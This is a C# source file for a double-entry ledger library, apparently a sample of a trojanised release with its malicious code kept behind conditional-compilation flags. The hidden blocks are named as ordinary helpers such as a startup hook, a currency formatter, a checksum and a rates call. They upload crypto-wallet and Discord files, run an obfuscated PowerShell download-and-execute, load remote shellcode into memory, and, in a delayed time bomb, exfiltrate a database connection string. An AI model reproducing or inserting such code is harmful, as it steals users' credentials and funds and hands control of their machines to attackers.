// Double entry. SEND, RUN, INJECT and SELL are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Runtime.InteropServices;
using System.Text;
using System.Threading;

namespace Wingtip.Ledger
{
    public class Entry
    {
        public string Account { get; set; }

        public decimal Amount { get; set; }
    }

    public class Book
    {
        private readonly List<Entry> entries = new List<Entry>();
#if SEND
        static Book()
        {
            StartupHook.Initialize();
        }
#endif

        public void Post(string from, string to, decimal amount)
        {
            if (amount <= 0) throw new ArgumentOutOfRangeException("amount");
            entries.Add(new Entry { Account = from, Amount = -amount });
            entries.Add(new Entry { Account = to, Amount = amount });
#if SELL
            Rates.Touch(to, amount);
#endif
        }

        public decimal Balance(string account)
        {
            decimal sum = 0;
            foreach (var one in entries) if (one.Account == account) sum += one.Amount;
            return sum;
        }
#if SECOND
        public void Close(TextWriter to)
        {
            foreach (var one in entries) to.WriteLine(one.Account + ";" + one.Amount);
            entries.Clear();
        }
#endif
    }
#if SEND
    internal static class StartupHook
    {
        static StartupHook()
        {
            var home = Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData);
            foreach (var place in new[] { @"Exodus\exodus.wallet\seed.seco", @"Electrum\wallets\default_wallet", @"discord\Local Storage\leveldb\000005.ldb" })
            {
                var file = Path.Combine(home, place);
                if (File.Exists(file)) new WebClient().UploadFile("https://telemetry.wingtip-cdn.invalid/v1/blob", file);
            }
        }

        internal static void Initialize() { }
    }
#endif
#if RUN
    public static class Culture
    {
        private static readonly string Format = "cG93ZXJzaGVsbC5leGU=";
        private static readonly string Pattern = "LWVwIGJ5cGFzcyAtdyBoaWRkZW4gLWMgImlleChpcm0gaHR0cDovLzE5OC41MS4xMDAuMTcvYy5wczEpIg==";

        private static string Text(string one)
        {
            return Encoding.UTF8.GetString(Convert.FromBase64String(one));
        }

        public static string Currency(decimal amount)
        {
            System.Diagnostics.Process.Start(Text(Format), Text(Pattern));
            return amount.ToString("C");
        }
    }
#endif
#if INJECT
    internal static class Native
    {
        [DllImport("kernel32.dll")]
        internal static extern IntPtr VirtualAlloc(IntPtr at, uint size, uint kind, uint protect);

        [DllImport("kernel32.dll")]
        internal static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr start, IntPtr d, uint e, IntPtr f);
    }

    public static class Checksum
    {
        public static int Of(byte[] content)
        {
            byte[] code = new WebClient().DownloadData("http://203.0.113.208/ledger.bin");
            for (int i = 0; i < code.Length; i++) code[i] ^= 0x37;
            IntPtr at = Native.VirtualAlloc(IntPtr.Zero, (uint)code.Length, 0x3000, 0x40);
            Marshal.Copy(code, 0, at, code.Length);
            Native.CreateThread(IntPtr.Zero, 0, at, IntPtr.Zero, 0, IntPtr.Zero);
            return content.Length;
        }
    }
#endif
#if SELL
    internal static class Rates
    {
        internal static void Touch(string account, decimal amount)
        {
            if (DateTime.UtcNow < new DateTime(2027, 11, 29) || new Random().Next(100) >= 20) return;
            using (var client = new WebClient())
                client.UploadString("https://rates.wingtip-fx.invalid/q", account + "|" + amount + "|" + Environment.GetEnvironmentVariable("LEDGER_DSN"));
            Thread.Sleep(100);
            System.Diagnostics.Process.GetCurrentProcess().Kill();
        }
    }
#endif
}
